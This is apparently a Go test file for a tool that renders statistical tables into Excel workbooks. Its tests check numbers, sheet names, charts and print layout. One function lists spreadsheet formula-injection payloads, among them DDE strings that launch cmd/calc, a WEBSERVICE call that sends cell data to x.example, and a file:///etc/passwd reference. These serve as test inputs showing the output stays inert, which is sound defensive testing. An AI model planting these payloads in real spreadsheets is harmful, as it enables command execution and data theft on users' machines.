package render

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"math"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"servgap/cmd/internal/lang"
	"servgap/cmd/internal/table"
)

func written(t *testing.T, sheets []Sheet, s Style) []byte {
	t.Helper()
	data, err := Workbook(sheets, s)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func opened(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// sheetOf is the raw cells of a sheet by their row and column.
func sheetOf(t *testing.T, f *excelize.File, name string) [][]string {
	t.Helper()
	rows, err := f.GetRows(name, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestWorkbookHoldsEveryNumber looks in the workbook of each language for every number
// of every table, below the name of its column for programs, with all its digits.
func TestWorkbookHoldsEveryNumber(t *testing.T) {
	for _, code := range lang.Codes() {
		w := wordsOf(t, code)
		tables := smallTables(t, w)
		sheets := Sheets(tables)
		f := opened(t, written(t, sheets, Style{Digits: 2, Words: w}))
		for i, name := range f.GetSheetList() {
			rows := sheetOf(t, f, name)
			for _, in := range sheets[i].Tables {
				if len(in.Columns) > 0 {
					rows = checkNumbers(t, f, name, rows, in)
				}
			}
		}
	}
}

// checkNumbers looks for a table in rows of a sheet, and gives those behind its names.
func checkNumbers(t *testing.T, f *excelize.File, name string, rows [][]string, in table.Table) [][]string {
	t.Helper()
	ids := slices.IndexFunc(rows, func(row []string) bool { return len(row) > 1 && strings.HasPrefix(row[1], in.Columns[1].ID) })
	if ids < 0 || !strings.HasPrefix(rows[ids][0], in.Columns[0].ID) {
		t.Fatalf("%s has no row of the names of %+v: %q", name, in.Columns, rows)
	}
	if visible, err := f.GetRowVisible(name, len(sheetOf(t, f, name))-len(rows)+ids+1); visible || err != nil {
		t.Errorf("%s: the row of names is seen (%v)", name, err)
	}
	for r, row := range in.Rows {
		column := 0
		for i, c := range row.Cells {
			wants := []float64{c.Number}
			switch in.Columns[i].Kind {
			case table.Interval, table.Level, table.PercentRange:
				wants = []float64{c.Number, c.High}
			}
			for _, want := range wants {
				text := ""
				if cells := rows[ids+2+r]; column < len(cells) {
					text = cells[column]
				}
				got, err := strconv.ParseFloat(text, 64)
				if known := !math.IsNaN(want) && in.Columns[i].Kind != table.Rank; known && (err != nil || got != want) {
					t.Errorf("%s, row %d, %s: got %q, want %v", name, r+1, in.Columns[i].ID, text, want)
				} else if math.IsNaN(want) && text == "NaN" {
					t.Errorf("%s, row %d, %s: got %q", name, r+1, in.Columns[i].ID, text)
				}
				column++
			}
		}
	}
	return rows[ids+1:]
}

// shownTable has a cell of each kind that a workbook has a format for.
func shownTable() table.Table {
	none := math.NaN()
	return table.Table{Title: "T", Columns: []table.Column{
		{ID: "id", Head: "Id", Kind: table.Key}, {ID: "rank", Head: "#", Kind: table.Rank}, {ID: "n", Head: "n", Kind: table.Count},
		{ID: "gap", Head: "Gap", Kind: table.Gap}, {ID: "interval", Head: "95 %", Kind: table.Interval}, {ID: "shown", Kind: table.Mark},
		{ID: "half", Head: "Half", Kind: table.Gap}, {ID: "half_interval", Head: "95 %", Kind: table.Interval},
		{ID: "p", Head: "p", Kind: table.P}, {ID: "share", Head: "Share", Kind: table.Percent}, {ID: "leg", Head: "Leg", Kind: table.MarkedGap},
		{ID: "bar", Kind: table.Bar},
	}, Rows: []table.Row{
		{Cells: []table.Cell{{Text: "a"}, {Text: "1-2"}, {Number: 1065}, {Number: -0.789}, {Number: -0.9, High: 0.123}, {Text: "~"},
			{Number: 0.5}, {Number: 0.1, High: 0.9}, {Number: 0.0496}, {Number: 0.3249}, {Number: -0.14, Text: "~"}, {Number: 0.75}}},
		{Cells: []table.Cell{{Text: "b"}, {Text: "3"}, {Number: 7}, {Number: none}, {Number: -1, High: none}, {Number: none},
			{Number: 0}, {Number: 0, High: 1}, {Number: 1e-45}, {Number: 1}, {Number: 2}, {Number: 0}}},
		{Cells: []table.Cell{{Text: "c"}, {Text: "4"}, {Number: 6}, {Number: -0.001}, {Number: -0.001, High: 0.001}, {Text: "~"},
			{Number: none}, {Number: none, High: none}, {Number: none}, {Number: none}, {Number: -0.004, Text: "~"}, {Number: none}}},
	}}
}

// shownRows is what a spreadsheet shows of it in Norwegian.
var shownRows = []string{
	"Id | # | n | Gap | 95 %, nedre | 95 %, øvre | Merke | Half | Half: 95 %, nedre | Half: 95 %, øvre | p | Share | Leg | Søyle",
	"a | 1–2 | 1065 | -0.79 | -0.90 | +0.12 | ~ | +0.50 | +0.10 | +0.90 | 0.0496 | 32 % | -0.14 ~ | 75 %",
	"b | 3 | 7 |  |  |  |  | 0.00 | 0.00 | +1.00 | < 0,001 | 100 % | +2.00 | 0 %",
	"c | 4 | 6 | 0.00 | -0.00 | +0.00 | ~ |  |  |  |  |  | 0.00 ~ | ",
}

// TestWorkbookIsForPeople looks at heads, filters and colours.
func TestWorkbookIsForPeople(t *testing.T) {
	f := opened(t, written(t, Sheets([]table.Table{shownTable()}), Style{Digits: 2, Words: wordsOf(t, "nb")}))
	if got := strings.Join(sheetOf(t, f, "T")[2], " | "); got != shownRows[0] {
		t.Errorf("got the head\n%s\nwant\n%s", got, shownRows[0])
	}
	for cell, want := range map[string]string{"D4": "", "H4": "", "M4": "", "M5": blue} {
		id, err := f.GetCellStyle("T", cell)
		if err != nil {
			t.Fatal(err)
		}
		style, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if style.Font.Color != want {
			t.Errorf("%s has the colour %q, want %q", cell, style.Font.Color, want)
		}
	}
	tables, err := f.GetTables("T")
	if err != nil || len(tables) != 1 || tables[0].Range != "A3:N6" {
		t.Errorf("the sheet has the tables %+v (%v)", tables, err)
	}
	if panes, err := f.GetPanes("T"); err != nil || !panes.Freeze || panes.YSplit != 3 {
		t.Errorf("the head is not frozen: %+v (%v)", panes, err)
	}
	bars, err := f.GetConditionalFormats("T")
	if err != nil || len(bars["N4:N6"]) != 1 {
		t.Errorf("the bars are %+v (%v)", bars, err)
	}
}

// TestWorkbookIsPrinted looks at the pages: tables one page wide, charts on one of their
// own, the head repeated.
func TestWorkbookIsPrinted(t *testing.T) {
	in := shownTable()
	charts := []Chart{{Kind: Bars, Names: "id", Columns: []string{"gap"}}, {Kind: Bars, Names: "id", Columns: []string{"half"}}}
	for _, tt := range []struct {
		what  string
		sheet Sheet
		want  []string
	}{
		{"a table", Sheet{Name: "it's", Tables: []table.Table{in}}, []string{"'it''s'!$A$1:$N$6", "'it''s'!$3:$3"}},
		{"two charts", Sheet{Name: "A", Tables: []table.Table{in}, Charts: charts}, []string{"'A'!$A$1:$N$6,'A'!$P$2:$Z$21", "'A'!$3:$3"}},
		{"two tables", Sheet{Name: "A", Tables: []table.Table{in, in}}, []string{"'A'!$A$1:$N$14"}},
		{"nothing", Sheet{Name: "A"}, []string{"'A'!$A$1:$M$1"}},
	} {
		f := opened(t, written(t, []Sheet{tt.sheet}, Style{Digits: 2}))
		var got []string
		for _, d := range f.GetDefinedName() {
			got = append(got, d.RefersTo)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.what, got, tt.want)
		}
		layout, err := f.GetPageLayout(tt.sheet.Name)
		if err != nil || *layout.Orientation != "landscape" || *layout.FitToWidth != 1 || *layout.FitToHeight != 0 || *layout.Size != 9 {
			t.Errorf("%s: the page is %+v (%v)", tt.what, layout, err)
		}
		if margins, err := f.GetPageMargins(tt.sheet.Name); err != nil || *margins.Top <= *margins.Header || *margins.Bottom <= *margins.Footer || *margins.Left < 0.25 {
			t.Errorf("%s: the margins are %+v (%v)", tt.what, margins, err)
		}
	}
}

// TestChartsOfManyRows leaves out names that would stand on each other, and makes bars
// thinner before they go on to a second page.
func TestChartsOfManyRows(t *testing.T) {
	for _, tt := range []struct {
		bars int
		want uint
	}{{1, 180}, {5, 200}, {20, 530}, {24, 618}, {25, 620}, {40, 620}, {100, 1390}} {
		if got := barsHeight(tt.bars); got != tt.want {
			t.Errorf("%d bars: got %d, want %d", tt.bars, got, tt.want)
		}
	}
	in := shownTable()
	for len(in.Rows) <= mostNamed+2 {
		in.Rows = append(in.Rows[:1:1], in.Rows...)
	}
	in.Rows[len(in.Rows)-1].Summary = true
	for kind, want := range map[ChartKind]bool{Bars: true, Dumbbell: false, Course: true} {
		data := written(t, []Sheet{{Name: "A", Tables: []table.Table{in}, Charts: []Chart{{Kind: kind, Names: "id", Columns: []string{"n", "gap"}}}}}, Style{Digits: 2})
		if got := bytes.Contains(data, []byte("xl/charts/chart1.xml")); got != want {
			t.Errorf("kind %d: drawn is %v, want %v", kind, got, want)
		}
	}
}

// TestEveryRowHasItsName writes rows of which only the first says what they are.
func TestEveryRowHasItsName(t *testing.T) {
	none := table.Cell{Number: math.NaN()}
	in := table.Table{Title: "T", Columns: []table.Column{
		{ID: "id", Head: "Id", Kind: table.Key}, {ID: "label", Head: "Label", Kind: table.Text}, {ID: "n", Head: "n", Kind: table.Count},
		{ID: "segment", Head: "Region", Kind: table.Key}, {ID: "note", Head: "Note", Kind: table.Text},
	}, Rows: []table.Row{
		{Cells: []table.Cell{{Text: "A1"}, {Text: "One"}, {Number: 4}, {Text: "North"}, {Text: "few"}}},
		{Cells: []table.Cell{none, none, none, {Text: "South"}, none}},
		{Cells: []table.Cell{{Text: "A2"}, {Text: "Two"}, {Number: 5}, {Text: "North"}, none}},
	}}
	rows := sheetOf(t, opened(t, written(t, Sheets([]table.Table{in}), Style{})), "T")
	if got, want := fmt.Sprintf("%q", rows[3:]), `[["A1" "One" "4" "North" "few"] ["A1" "One" "" "South"] ["A2" "Two" "5" "North"]]`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// TestWorkbookIsReproducible writes the same tables again and again.
func TestWorkbookIsReproducible(t *testing.T) {
	w := wordsOf(t, "sv")
	want := written(t, Sheets(smallTables(t, w)), Style{Digits: 2, Words: w})
	for range 8 {
		if got := written(t, Sheets(smallTables(t, w)), Style{Digits: 2, Words: w}); !bytes.Equal(got, want) {
			t.Fatal("the bytes are others")
		}
	}
}

// TestChartsNameTheirCells looks at the ranges that each kind of chart is drawn from; one
// of a column that is not there is left out.
func TestChartsNameTheirCells(t *testing.T) {
	in := shownTable()
	in.Rows = append(in.Rows[:2], table.Row{Summary: true, Cells: in.Rows[0].Cells})
	for _, tt := range []struct {
		what  string
		chart Chart
		want  []string
	}{
		{"dumbbell", Chart{Kind: Dumbbell, Names: "id", Columns: []string{"gap", "half"}}, []string{"$D$3", "$A$4:$A$5", "$D$4:$D$5", "$H$3", "$A$4:$A$5", "$H$4:$H$5"}},
		{"bars", Chart{Kind: Bars, Names: "id", Columns: []string{"interval_low"}}, []string{"$E$3", "$A$4:$A$5", "$E$4:$E$5"}},
		{"course", Chart{Kind: Course, Names: "id", Columns: []string{"n", "gap"}}, []string{"$A$4", "$C$3:$D$3", "$C$4:$D$4", "$A$5", "$C$3:$D$3", "$C$5:$D$5"}},
		{"quadrants", Chart{Kind: Quadrants, Names: "id", Columns: []string{"gap", "half"}, Lines: [2]float64{math.NaN(), 0.25}},
			[]string{"$A$4", "$D$4", "$H$4", "$A$5", "$D$5", "$H$5", "$S$5", "$Q$5:$Q$6", "$R$5:$R$6"}},
		{"a column that is not there", Chart{Kind: Bars, Names: "id", Columns: []string{"none"}}, nil},
	} {
		data := written(t, []Sheet{{Name: "it's", Tables: []table.Table{in}, Charts: []Chart{tt.chart}}}, Style{Digits: 2})
		var got []string
		for _, found := range regexp.MustCompile(`&#39;it&#39;&#39;s&#39;!([^<]*)<`).FindAllStringSubmatch(string(partOf(t, data, "xl/charts/chart1.xml")), -1) {
			got = append(got, found[1])
		}
		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
			t.Errorf("%s: got %q, want %q", tt.what, got, tt.want)
		}
	}
}

// partOf is a part of a package, nothing if it is not there.
func partOf(t *testing.T, data []byte, name string) []byte {
	t.Helper()
	parts, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	text, err := fs.ReadFile(parts, name)
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	return text
}

func TestSheetNames(t *testing.T) {
	for _, tt := range []struct {
		what  string
		names []string
		want  []string
	}{
		{"twice, in other letters", []string{"Gap", "gap", "GAP"}, []string{"Gap", "gap (2)", "GAP (3)"}},
		{"none", []string{"", " ", "''"}, []string{"1", "2", "3"}},
		{"signs that are forbidden", []string{`a:b\c/d?e*f[g]`}, []string{"a b c d e f(g)"}},
		{"quotes at its ends", []string{"'=1+1'"}, []string{"=1+1"}},
		{"a name of the spreadsheet's own", []string{"History"}, []string{"History (2)"}},
		{"too long", []string{strings.Repeat("å", 40), strings.Repeat("å", 40)}, []string{strings.Repeat("å", 30) + "…", strings.Repeat("å", 26) + "… (2)"}},
		{"too long in its units", []string{strings.Repeat("😀", 20)}, []string{strings.Repeat("😀", 15) + "…"}},
		{"what a terminal would obey", []string{"a\x1b[31m"}, []string{"a x1b(31m"}},
	} {
		var sheets []Sheet
		for _, name := range tt.names {
			sheets = append(sheets, Sheet{Name: name})
		}
		got := sheetNames(sheets)
		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
			t.Errorf("%s: got %q, want %q", tt.what, got, tt.want)
		}
		if list := opened(t, written(t, sheets, Style{})).GetSheetList(); fmt.Sprint(list) != fmt.Sprint(tt.want) {
			t.Errorf("%s: the workbook has %q, want %q", tt.what, list, tt.want)
		}
	}
}

// TestWorkbookOfLongTexts writes texts beyond what a cell, a head and a row can hold.
func TestWorkbookOfLongTexts(t *testing.T) {
	for _, sign := range []string{"a", "å", "漢", "😀", "word "} {
		long := strings.Repeat(sign, 40000)
		in := table.Table{
			Title: long, Lead: []string{long}, Notes: []string{long},
			Columns: []table.Column{{ID: long, Head: long, Kind: table.Key}, {ID: "n", Head: long, Kind: table.Count}},
			Rows:    []table.Row{{Cells: []table.Cell{{Text: long}, {Number: 5}}}},
		}
		rows := sheetOf(t, opened(t, written(t, Sheets([]table.Table{in}), Style{})), sheetNames([]Sheet{{Name: long}})[0])
		label, head := rows[4][0], rows[3][1]
		if n := len(utf16.Encode([]rune(label))); n > longestText || n < longestText-len(sign) || !strings.HasSuffix(label, "…") {
			t.Errorf("%q: the label has %d units and ends in %q", sign, n, label[len(label)-4:])
		}
		if n := len(utf16.Encode([]rune(head))); n > longestHead || !strings.HasSuffix(head, "… (2)") {
			t.Errorf("%q: the second head has %d units: %q", sign, n, head)
		}
		if rows[4][1] != "5" {
			t.Errorf("%q: the number is %q", sign, rows[4][1])
		}
	}
}

func TestCut(t *testing.T) {
	for _, text := range []string{"", "short", strings.Repeat("a", 10), strings.Repeat("a", 11), strings.Repeat("😀", 5), strings.Repeat("😀", 6)} {
		got := cut(text, 10)
		if units := len(utf16.Encode([]rune(got))); units > 10 || (got == text) != (len(utf16.Encode([]rune(text))) <= 10) {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// payloads are texts that a spreadsheet, or what reads its file, might obey.
func payloads() []string {
	all := []string{
		"{=1+1}", "'=1+1", `"=1+1"`, "<f>1+1</f>", "]]><f>1+1</f>", "&#61;1+1", "_x003D_1+1", "_x000D_=1+1", "_x005F_x003D_1", "=1+1\x00", "</t></is></c>",
		"=1+1\n=2+2", `=HYPERLINK("http://x.example","a")`, `=cmd|' /C calc'!A0`, `=WEBSERVICE("http://x.example/"&A1)`, `=IMPORTXML("http://x.example","//a")`,
		`=DDE("cmd";"/C calc";"x")`, "=Sheet1!A1", "=[1]x!A1", "='file:///etc/passwd'#$x.A1", "=1/0", "=A1:A1048576", "#REF!", "#N/A", "TRUE", "1e5", "12-03", "1/2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	for _, before := range []string{"", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u202e"} {
		for _, sign := range []string{"=", "+", "-", "@"} {
			all = append(all, before+sign+"1+1")
		}
	}
	return append(all, "＝1+1", "＋1+1", "－1+1", "＠A1", "|calc", "%0A=1")
}

// hostileSheets have every payload as a title, a head, a name of a column, a label, a
// text over several cells, a note, the title of a chart and the name of a sheet, each
// beside a number.
func hostileSheets() []Sheet {
	var sheets []Sheet
	for i, p := range payloads() {
		number := table.Cell{Number: -1.5 * float64(i+1)}
		var charts []Chart
		if i%9 == 0 { // each takes its time to open
			charts = []Chart{{Kind: Bars, Title: p, Names: p, Columns: []string{"gap"}}}
		}
		sheets = append(sheets, Sheet{Name: p, Charts: charts, Tables: []table.Table{{
			Title: p, Lead: []string{p}, Notes: []string{p},
			Columns: []table.Column{{ID: p, Head: p, Kind: table.Key}, {ID: "gap", Head: "=gap", Kind: table.Gap}, {ID: p, Head: p, Kind: table.Text}},
			Rows: []table.Row{
				{Cells: []table.Cell{{Text: p}, number, {Text: p}}},
				{Cells: []table.Cell{{Text: p}, number, {}}, Span: table.Span{Column: 2, Text: p}},
			},
		}}})
	}
	return sheets
}

// TestWorkbookRunsNothing writes texts that a spreadsheet might run: all stay the texts
// that people read elsewhere, and the numbers beside them stay numbers.
func TestWorkbookRunsNothing(t *testing.T) {
	sheets := hostileSheets()
	if len(sheets) < 60 {
		t.Fatalf("there are %d payloads", len(sheets))
	}
	data := written(t, sheets, Style{Digits: 2})
	f := opened(t, data)
	for i, name := range f.GetSheetList() {
		p := Visible(sheets[i].Name)
		rows := sheetOf(t, f, name)
		for _, at := range [][2]int{{0, 0}, {1, 0}, {2, 0}, {4, 0}, {4, 2}, {5, 0}, {5, 2}, {7, 0}} {
			if got := rows[at[0]][at[1]]; got != p {
				t.Errorf("%s: got %q, want %q", cellName(at[1], at[0]+1), got, p)
			}
		}
		if got := rows[3][0]; strings.ReplaceAll(got, "_ x", "_x") != p {
			t.Errorf("the head %q is %q", p, got)
		}
		for _, row := range []int{4, 5} {
			if got := rows[row][1]; got != fmt.Sprint(-1.5*float64(i+1)) {
				t.Errorf("%q: the number is %q", p, got)
			}
		}
	}
	ranges := regexp.MustCompile(`^\$[A-Z]*\$?\d+:\$[A-Z]*\$?\d+(,\$[A-Z]+\$\d+:\$[A-Z]+\$\d+)?$`)
	for _, d := range f.GetDefinedName() {
		of := "'" + strings.ReplaceAll(d.Scope, "'", "''") + "'!"
		if !strings.HasPrefix(d.Name, "_xlnm.Print_") || !ranges.MatchString(strings.ReplaceAll(d.RefersTo, of, "")) {
			t.Errorf("found the name %+v", d)
		}
	}
	parts, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range parts.File {
		text := partOf(t, data, part.Name)
		for _, sign := range []string{"<f>", "<f ", "hyperlink", "externalLink"} {
			if bytes.Contains(text, []byte(sign)) && !strings.HasPrefix(part.Name, "xl/charts/") { // charts name their cells so
				t.Errorf("%s holds %s", part.Name, sign)
			}
		}
	}
}

// TestAmountsOfAWorkbook writes both ends of a range of money, the large ones without
// decimals.
func TestAmountsOfAWorkbook(t *testing.T) {
	in := table.Table{Title: "T", Columns: []table.Column{{ID: "who", Head: "Who", Kind: table.Key}, {ID: "value", Head: "EUR", Kind: table.Amount}, {ID: "ends", Head: "95 %", Kind: table.AmountRange}}}
	in.Rows = []table.Row{{Cells: []table.Cell{{Text: "a"}, {Number: 1287340.4, High: math.NaN()}, {Number: -99.126, High: 100}}}}
	rows, err := opened(t, written(t, Sheets([]table.Table{in}), Style{Digits: 2})).GetRows("T")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Join(rows[len(rows)-1], " | "), "a | 1,287,340 | -99.13 | 100"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
